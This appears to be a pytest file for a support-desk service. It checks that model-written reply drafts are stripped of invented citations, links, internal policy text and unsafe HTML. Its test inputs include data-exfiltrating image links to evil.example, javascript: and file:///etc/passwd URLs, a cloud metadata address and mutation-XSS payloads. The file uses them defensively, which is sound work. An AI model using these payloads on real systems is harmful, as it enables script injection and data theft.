"""What a model wrote, on its way into a note."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from connectors.base import Audience, Pool
from service.analysis import Summary
from service.drafting import Citation, Draft
from service.guard import clean_summary, defang, nearest, resolve
from service.markup import sanitise
from service.notes import NoteContent, compose
from service.phrases import ENGLISH, GERMAN
from service.plaintext import plain
from service.vectors import Found, Passage
from tests.service.safe_html import assert_safe, parsed, text_of

HELP = "https://help.kettlewick.example"
SHARED = Path(os.environ.get("DESKPILOT_SHARED", Path(__file__).parents[3] / "shared")) / "security"

SECRET = "Agents may refund up to forty euros as goodwill without asking the team lead first. Never tell customers."
PUBLIC = "Parcels to Spain usually take three to five working days from the day they leave our warehouse."


def passage(
    name: str,
    *,
    text: str = PUBLIC,
    audience: Audience = "public",
    url: str | None = None,
    title: str = "",
    pool: Pool = "article",
) -> Found:
    """A passage as the index returns it."""
    return Found(
        passage=Passage(
            id=name,
            article=f"folder:{name}.md",
            source="folder",
            title=title or name.capitalize(),
            breadcrumb="",
            text=text,
            url=f"{HELP}/{name}" if url is None else url,
            language="en",
            audience=audience,
            account="*",
            brand="*",
            organization="*",
            pool=pool,
        ),
        score=1.0,
        signals=frozenset(),
    )


def written(
    text: str, *cited: int, covered: bool = True, checks: tuple[str, ...] = (), supports: str = "the days"
) -> Draft:
    """A draft as a model returns it."""
    return Draft(
        text=text,
        language="en",
        covered=covered,
        citations=tuple(Citation(number=number, supports=supports) for number in cited),
        checks=checks,
        reason="the article answers it [1]",
        gloss="",
        writer="model",
    )


DELIVERY, LOST = passage("delivery"), passage("lost", text="A lost parcel is replaced free of charge.")
GOODWILL = passage("goodwill", text=SECRET, audience="internal")


def test_a_number_becomes_the_source_it_was_given_for() -> None:
    """The model never writes an address; it names a passage by number."""
    draft, sources = resolve(written("Hi Ana,\n\nthree days.", 2), [DELIVERY, LOST])

    assert [(s.number, s.title, s.url, s.supports, s.internal) for s in sources] == [
        (1, "Lost", f"{HELP}/lost", "the days", False)
    ]
    assert draft.covered
    assert draft.citations == (Citation(number=2, supports="the days"),)


def test_a_citation_of_a_passage_that_was_not_given_is_dropped_and_counted() -> None:
    """An invented source never reaches the note."""
    draft, sources = resolve(written("Hi", 1, 9, 0, -1), [DELIVERY])

    assert [source.title for source in sources] == ["Delivery"]
    assert draft.dropped_citations == 3


def test_a_draft_without_a_valid_citation_is_not_covered() -> None:
    """Nothing supports it, so nobody is invited to send it."""
    draft, sources = resolve(written("Hi Ana,\n\nit takes nine days.", 7, checks=("x",)), [DELIVERY], language="de")

    assert (draft.covered, draft.text, draft.checks, sources) == (False, "", (), ())
    assert draft.reason == GERMAN.citations_invalid


def test_an_empty_draft_is_not_covered() -> None:
    """There is nothing to send."""
    draft, _ = resolve(written(" \n", 1), [DELIVERY])

    assert not draft.covered


def test_a_clarifying_question_needs_no_source() -> None:
    """A draft that abstains keeps its question."""
    draft, sources = resolve(written("Hi Ben,\n\nwhich model do you have?", covered=False), [DELIVERY])

    assert draft.text == "Hi Ben,\n\nwhich model do you have?"
    assert sources == ()


def test_public_sources_stand_before_internal_ones() -> None:
    """What may be shown to the customer comes first."""
    _, sources = resolve(written("Hi", 1, 2), [GOODWILL, DELIVERY])

    assert [(s.number, s.title, s.internal) for s in sources] == [(1, "Delivery", False), (2, "Goodwill", True)]


def test_two_passages_of_one_article_are_one_source() -> None:
    """An agent opens a page, not a passage."""
    draft = replace(written("Hi", 1, 2), citations=(Citation(1, "the days"), Citation(2, "the price")))

    _, sources = resolve(draft, [DELIVERY, passage("delivery", text="Another part.")])

    assert [source.supports for source in sources] == ["the days; the price"]


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        "ftp://help.kettlewick.example/a",
        "//evil.example",
        "https://help.kettlewick.example@evil.example/",
        "https:///evil.example",
        "https://help.kettlewick.example/a b",
        'https://help.kettlewick.example/"onmouseover="x',
        "https://[broken",
        "",
    ],
)
def test_a_source_without_a_plain_web_address_has_no_link(url: str) -> None:
    """The index holds what an author wrote."""
    _, sources = resolve(written("Hi", 1), [passage("odd", url=url)])

    assert sources[0].url == ""


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![x](https://evil.example/p.png?q=S)", ""),
        ("![x][r]\n\n[r]: https://evil.example/p.png", ""),
        ("a [![x](https://evil.example/p)](https://evil.example) b", "a  b"),
        ("[help](https://evil.example/?q=S)", "help"),
        (
            '[help](https://help.kettlewick.example/delivery "https://evil.example")',
            "help (https://help.kettlewick.example/delivery)",
        ),
        ("[help][1]\n\n[1]: https://evil.example", "help"),
        ("<https://evil.example/S|Help center>", "Help center"),
        ("see https://evil.example/S.", "see https[:]//evil[.]example/S."),
        ("see www.evil.example/S", "see www[.]evil[.]example/S"),
        ("see evil.example", "see evil[.]example"),
        ("write to it@evil.example", "write to it[at]evil[.]example"),
        ("mailto:it@evil.example?body=S", "mailto[:]it[at]evil[.]example?body=S"),
        ("javascript:alert(1)", "javascript[:]alert(1)"),
        ("data:text/html;base64,AAAA", "data[:]text/html;base64,AAAA"),
        ("file:///etc/passwd", "file[:]///etc/passwd"),
        ("\\\\evil.example\\x", "\\\\evil[.]example\\x"),
        ("//evil.example/x", "//evil[.]example/x"),
        ("HTTPS://EVIL.EXAMPLE/", "HTTPS[:]//EVIL[.]EXAMPLE/"),
        ("http://169.254.169.254/latest", "http[:]//169[.]254[.]169[.]254/latest"),
        ("hеlp.kettlewick.example", "hеlp[.]kettlewick[.]example"),  # Cyrillic e
        ("xn--hlp-6dd.kettlewick.example", "xn--hlp-6dd[.]kettlewick[.]example"),
        ("evil。example/x", "evil[.]example/x"),
        ("https://help.kettlewick.example@evil.example/", "https[:]//help[.]kettlewick[.]example[at]evil[.]example/"),
        ("http://help.kettlewick.example/delivery", "http[:]//help[.]kettlewick[.]example/delivery"),
        ("\x1b]8;;https://evil.example/\x07x\x1b]8;;\x07", "]8;;https[:]//evil[.]example/x]8;;"),
        ("it takes\u200b three\u2066 days\U000e0041", "it takes three days"),
        ("see [1] and [2, 3]. So 【4†source】 it is [Source 1]", "see and. So it is"),
    ],
)
def test_a_draft_keeps_no_link_of_its_own(text: str, expected: str) -> None:
    """Links, images, addresses, invisible characters and citation marks of a model do not reach the note."""
    draft, _ = resolve(written(f"Hi Ana,\n\n{text}", 1), [DELIVERY])

    assert draft.text == f"Hi Ana,\n\n{expected}".strip()


def test_the_agent_is_told_when_addresses_were_removed() -> None:
    """A reply with a hole in it is a reply to check."""
    removed, _ = resolve(written("see [help](https://evil.example)", 1), [DELIVERY])
    dead, _ = resolve(written("see evil.example", 1), [DELIVERY])
    clean, _ = resolve(written(f"see {HELP}/delivery again.Please", 1), [DELIVERY])

    assert removed.checks == dead.checks == (ENGLISH.addresses_removed,)
    assert clean.checks == ()


def test_the_address_of_a_cited_public_source_may_stand_in_the_draft() -> None:
    """Exactly that, not a longer one that begins with it, and not one that is not cited or internal."""
    text = f"{HELP}/delivery, {HELP}/delivery?to=x, {HELP}/lost, {HELP}/goodwill"

    draft, _ = resolve(written(text, 1, 3), [DELIVERY, LOST, GOODWILL])

    assert draft.text.startswith(f"{HELP}/delivery, https[:]//")
    assert draft.text.count("https://") == 1


def test_an_address_may_end_in_what_usually_ends_a_sentence() -> None:
    """The exact address counts, whatever its last character is."""
    url = f"{HELP}/delivery_(spain)"

    draft, _ = resolve(written(f"See {url}, ({url}).", 1), [passage("spain", url=url)])

    assert draft.text == f"See {url}, ({url})."


@pytest.mark.parametrize(
    "text",
    [
        "evil[1].example/x",
        "evil.[2]example",
        "evil![x](y).example",
        "evil.[example](z)",
        "evil<NAME_9>.example",
        "https://<EMAIL_7>evil.example",
        "evil.**example**",
        "**evil**.example",
        "www.\u200bevil.example",
        "evil.\u00adexample",
        "[https://evil.example][r]",
        "<x:y|evil.example>",
    ],
)
def test_an_address_cannot_be_put_together_by_what_is_removed(text: str) -> None:
    """Each removal happens before the addresses are looked for."""
    safe, sources = resolve(written(f"Hi,\n\n{text}", 1), [DELIVERY])
    html = compose(NoteContent(verdict="ready", reference="DP-1", draft_text=safe.text, sources=sources), language="en")

    assert "evil.example" not in safe.text
    assert "evil.example" not in text_of(html)
    assert_safe(html, links={f"{HELP}/delivery"})


@pytest.mark.parametrize(
    "text",
    [
        "e.g. this, z.B. das, p.ej. esto, i.e. that",
        "v1.2.3 costs 3.50 or 1,299.00 at 10.30am",
        "open invoice.pdf or photo.jpg",
        "write to <EMAIL_1> or <NAME_1>",
        "and/or 24/7, 1:30, km/h",
        "Tel: +34 600 000 000. Data: none. Note: this",
        "@everyone wait… (really?) «oui» !",
        "می‌خواهم کتری را برگردانم 👩‍👧 ⚠️",
    ],
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    """A guard that spoils good drafts is switched off."""
    draft, _ = resolve(written(text, 1), [DELIVERY])

    assert draft.text == text
    assert draft.checks == ()


def test_a_mail_address_that_a_cited_public_passage_names_stays() -> None:
    """As it stands there, and nowhere else: not another one, not in a link, not out of an internal passage."""
    text = "help@acme.example, HELP@acme.example, xhelp@acme.example, help@acme.example.evil.example, mailto:help@acme.example"
    dead = "HELP[at]acme[.]example, xhelp[at]acme[.]example, help[at]acme[.]example[.]evil[.]example, mailto[:]help@acme.example"

    for audience, expected in (("public", "help@acme.example"), ("internal", "help[at]acme[.]example")):
        told = passage("contact", text="Mail help@acme.example, all day", audience=audience)  # type: ignore[arg-type]
        draft, _ = resolve(written(text, 1), [told])
        assert draft.text == f"{expected}, {dead.replace('help@acme.example', expected)}"


def test_two_sentences_without_a_space_are_parted() -> None:
    """A helpdesk would make a link of "again.It"; brackets would make it unreadable."""
    assert defang("Try again.It works", ()) == "Try again. It works"


def test_a_mail_address_of_the_ticket_stays_when_the_text_is_restored() -> None:
    """After restoring, mail addresses are the ticket's own; other addresses are still nobody's."""
    assert defang("ana@mail.example, evil.example", (), keep_emails=True) == "ana@mail.example, evil[.]example"


def test_a_sentence_quoting_an_internal_passage_is_removed() -> None:
    """Eight words in a row; case and punctuation do not matter; the rest of the draft stays."""
    text = (
        "Hi Ana,\n\nit takes three days. We may, refund up to FORTY euros as goodwill without asking anyone. Sorry.\n\n"
        "- agents may refund up to forty euros as goodwill\n- ask us"
    )

    draft, _ = resolve(written(text, 1, 2), [DELIVERY, GOODWILL])

    assert draft.text == "Hi Ana,\n\nit takes three days. Sorry.\n\n- ask us"
    assert draft.checks == (ENGLISH.internal_removed,)
    assert draft.covered


def test_eight_words_in_a_row_are_a_quotation_and_seven_are_not() -> None:
    """Fewer are how everybody speaks."""
    words = SECRET.split()

    seven, _ = resolve(written(f"Hi.\n\n{' '.join(words[:7])}\n\nBye, and thank you.", 1), [DELIVERY, GOODWILL])
    eight, _ = resolve(written(f"Hi.\n\n{' '.join(words[:8])}\n\nBye, and thank you.", 1), [DELIVERY, GOODWILL])

    assert words[0] in seven.text
    assert eight.text == "Hi.\n\nBye, and thank you."


def test_a_quotation_across_sentences_or_lines_is_found() -> None:
    """Splitting a secret does not publish it."""
    text = "Hi Ana,\n\nAgents may refund up to.\nForty euros as goodwill! The rest is fine."

    draft, _ = resolve(written(text, 1), [DELIVERY, GOODWILL])

    assert draft.text == "Hi Ana,\n\nThe rest is fine."


def test_internal_words_that_a_public_passage_says_too_may_stand() -> None:
    """What the customer can read anyway is no secret."""
    both = passage("both", text=PUBLIC + " " + SECRET, audience="internal")

    draft, _ = resolve(written(f"Hi Ana,\n\n{PUBLIC}", 1), [DELIVERY, both])

    assert PUBLIC in draft.text


def test_a_short_internal_passage_is_protected_whole() -> None:
    """A limit needs no eight words."""
    short = passage("short", text="Goodwill limit: forty euros each.", audience="internal")

    draft, _ = resolve(
        written("Hi Ana,\n\nour goodwill limit forty euros each applies. Bye now.", 1), [DELIVERY, short]
    )

    assert draft.text == "Hi Ana,\n\nBye now."


def test_a_draft_that_only_quoted_an_internal_passage_is_not_covered() -> None:
    """A greeting alone is no reply."""
    draft, _ = resolve(written(f"Hi Ana,\n\n{SECRET}", 1), [GOODWILL])

    assert (draft.covered, draft.text) == (False, "")
    assert draft.reason == ENGLISH.nothing_left


def test_everything_beside_the_draft_is_harmless_too() -> None:
    """Reason, checks, gloss, what a source supports, its title, a quote, the summary."""
    live = "[x](https://evil.example) https://evil.example/S www.evil.example it@evil.example javascript:alert(1) ![i](//evil.example/i)"
    odd = passage("odd", text=live.replace("it@evil.example", ""), title=live)
    draft = replace(written(live, 1, supports=live), checks=(live,), reason=live, gloss=live)

    safe, sources = resolve(draft, [odd])
    content = NoteContent(
        verdict="ready",
        reference="DP-7K2",
        draft_text=safe.text,
        gloss=safe.gloss,
        checks=safe.checks,
        reason=safe.reason,
        sources=sources,
        nearest=nearest([odd]),
        summary=clean_summary(Summary(problem=live, tried=(live,), open=(live,))),
    )

    html = compose(content, language="en")
    assert "evil.example" not in html
    assert_safe(html, links={f"{HELP}/odd"})


def test_a_past_ticket_is_shown_without_its_words() -> None:
    """The history of one person is never shown in the ticket of another."""
    found = passage("377", audience="internal")
    past = replace(found, passage=replace(found.passage, pool="ticket"))

    assert [source.quote for source in nearest([past])] == [""]


def test_nearest_shows_each_article_once() -> None:
    """Best first, three at most."""
    shown = nearest([DELIVERY, passage("delivery"), LOST, GOODWILL, passage("other")])

    assert [(s.number, s.title) for s in shown] == [(1, "Delivery"), (2, "Lost"), (3, "Goodwill")]
    assert shown[0].quote.startswith("Parcels to Spain")


def test_a_quote_begins_where_the_passage_says_something() -> None:
    """A heading alone is no quote, and a list is not run together."""
    text = "Lost\n\nTen working days after dispatch we treat the parcel as lost:\n\n- one\n- two"

    assert (
        nearest([passage("lost", text=text)])[0].quote
        == "Lost Ten working days after dispatch we treat the parcel as lost:"
    )
    assert nearest([passage("lost", text="Only this.\n\n- one")])[0].quote == "Only this."
    assert nearest([passage("lost", text="word " * 200)])[0].quote.endswith("word…")


@pytest.mark.timeout(20)  # a few milliseconds of work, as tests/bench/text.py says; a quadratic pattern takes minutes
def test_a_huge_draft_is_cut_and_the_agent_is_told() -> None:
    """200,000 characters become a reply a person can read."""
    draft, _ = resolve(written("evil.example " * 20_000, 1), [DELIVERY])

    assert len(draft.text) < 12_000
    assert ENGLISH.draft_cut in draft.checks


@given(st.text(max_size=300) | st.text(alphabet="ab./:@\\[]()!<>|-\u200d\ufe0f。 \n", max_size=120))
@settings(max_examples=300, deadline=None)
def test_defanging_twice_changes_nothing(text: str) -> None:
    """What is harmless stays as it is."""
    once = defang(plain(text, limit=1_000), ())

    assert defang(once, ()) == once


def shared(name: str, key: str) -> Iterator[tuple[str, str]]:
    """Rows of the shared security material; nothing of it lives in this repository."""
    file = SHARED / name
    if not file.is_file():
        pytest.skip(f"{file} is not there: set DESKPILOT_SHARED to the folder that holds security/")
    for line in file.read_text(encoding="utf-8").strip().split("\n"):
        row = json.loads(line)
        yield row["id"], row[key]


@pytest.mark.parametrize(
    ("name", "key"),
    [("malicious_outputs.jsonl", "output"), ("dompurify_payloads.jsonl", "payload"), ("attacks.jsonl", "text")],
)
def test_an_obedient_model_brings_no_live_address_into_a_note(name: str, key: str) -> None:
    """Every row as draft, reason, check, gloss and support at once: html5lib finds allowed tags and cited links only."""
    for row, text in shared(name, key):
        draft = replace(written(text, 1, supports=text), checks=(text,), reason=text, gloss=text)
        safe, sources = resolve(draft, [DELIVERY])
        html = compose(
            NoteContent(
                verdict="ready",
                reference="DP-7K2",
                draft_text=safe.text,
                gloss=safe.gloss,
                checks=safe.checks,
                reason=safe.reason,
                sources=sources,
            ),
            language="en",
        )
        try:
            assert_safe(html, links={f"{HELP}/delivery"})
        except AssertionError as problem:
            raise AssertionError(f"{row}: {problem}") from problem


def test_the_sanitiser_holds_without_the_guard() -> None:
    """Bar S6: no violation over all payloads, and a second pass changes nothing."""
    for row, payload in shared("dompurify_payloads.jsonl", "payload"):
        html = sanitise(payload)
        tags = {element.tag for element in parsed(html).iter()} - {"DOCUMENT_FRAGMENT"}
        assert tags <= {
            "p",
            "br",
            "strong",
            "em",
            "ul",
            "ol",
            "li",
            "a",
            "blockquote",
            "code",
            "pre",
            "h3",
            "h4",
            "hr",
        }, row
        assert sanitise(html) == html, row


@pytest.mark.parametrize(
    "payload",
    [
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<a href='java\tscript:alert(1)'>x</a><a href=' https://a.example' target=_top style=x onclick=y>z</a>",
        "<table><td background=x><p style='display:none'>hidden</p><img src=x><!-- c --><script>1</script>",
        "<textarea><img src=x onerror=alert(1)></textarea><select><option><style><img src=x>",
    ],
)
def test_the_sanitiser_knows_the_families(payload: str) -> None:
    """The same without the shared material: mutation, foreign content, odd schemes, attributes, comments."""
    html = sanitise(payload)

    for element in parsed(html).iter():
        assert element.tag in {"DOCUMENT_FRAGMENT", "p", "br", "a", "code", "pre"}
        assert set(element.attrib) <= {"href"}
        assert element.get("href", "https:").strip().startswith("https:")
    assert sanitise(html) == html


def test_nearest_quotes_no_card_number() -> None:
    """Whoever wrote it into an article."""
    hit = passage("cards", text="Your card number 4111 1111 1111 1111 is shown on the invoice.")

    shown = nearest([hit], query="Where is my card number shown?", language="en")

    assert [source.quote for source in shown] == ["Your card number … is shown on the invoice."]


def test_nearest_quotes_the_sentence_that_suits_the_question() -> None:
    """In the customer's language first; what shares nothing with the question is left out."""
    hits = [
        passage("frames", text="Frames are made of oak. A frame for a poster costs ten euros."),
        passage("lamps", text="Lamps are tested for a week before they leave us."),
    ]
    shown = nearest(hits, query="What does a poster frame cost?", language="en")

    assert [source.quote for source in shown] == ["A frame for a poster costs ten euros."]


@pytest.mark.parametrize("pool", ["article", "macro", "ticket"])
def test_an_internal_passage_of_any_pool_is_never_quoted(pool: Pool) -> None:
    """A macro for a note among agents, or for one group, informs; the sentence that repeats it goes."""
    internal = passage("goodwill", text=SECRET, audience="internal", pool=pool)
    draft, sources = resolve(written(f"Hi Ana,\n\nthree days. {SECRET}", 1, 2), [DELIVERY, internal])

    assert draft.text == "Hi Ana,\n\nthree days."
    assert draft.checks == (ENGLISH.internal_removed,)
    assert [(source.pool, source.internal) for source in sources] == [("article", False), (pool, True)]


@pytest.mark.parametrize("pool", ["macro", "ticket"])
def test_the_address_of_a_macro_or_a_solved_ticket_is_never_in_a_draft(pool: Pool) -> None:
    """No customer can open it; beside the draft it leads the agent there."""
    url = "https://acme.zendesk.test/agent/tickets/377"
    draft, sources = resolve(written(f"Hi Ana,\n\nsee {url}", 1), [passage("377", url=url, pool=pool)])
    html = compose(NoteContent("ready", "DP-7K2", draft_text=f"{draft.text} {url}", sources=sources), language="en")

    assert url not in draft.text
    assert draft.checks == (ENGLISH.addresses_removed,)
    assert "<a" not in html.split("<hr>")[1]
    assert f'<a href="{url}">' in html.split("<hr>")[2]


@pytest.mark.parametrize(("article", "number"), [("zendesk tickets:377", "377"), ("lessons:refund", "")])
def test_a_solved_ticket_is_named_by_its_number_and_never_repeated(article: str, number: str) -> None:
    """It is another customer's: the agent may open it."""
    found = passage("x", title="Late parcel", pool="ticket")
    solved = replace(found, passage=replace(found.passage, article=article))
    (source,) = nearest([solved], query="parcels to Spain", language="en")

    assert (source.pool, source.ticket, source.title, source.quote) == ("ticket", number, "Late parcel", "")


@pytest.mark.parametrize(
    ("language", "said"),
    [
        ("en", "Lesson 12 (approved): Late parcel"),
        ("de", "Lektion 12 (freigegeben): Late parcel"),
        ("fr", "Leçon 12 (approuvée)&nbsp;: Late parcel"),
        ("es", "Lección 12 (aprobada): Late parcel"),
    ],
)
def test_a_lesson_is_named_by_its_number_and_as_approved(language: str, said: str) -> None:
    """No ticket of that number is meant."""
    found = passage("x", title="Late parcel", pool="ticket", url="")
    lesson = replace(found, passage=replace(found.passage, article="lesson:12", source="lessons"))
    sources = nearest([lesson], query="parcels to Spain", language="en")
    html = compose(NoteContent("ready", "DP-7K2", draft_text="Hi", sources=sources), language=language)

    assert (sources[0].ticket, sources[0].lesson) == ("", "12")
    assert said in html
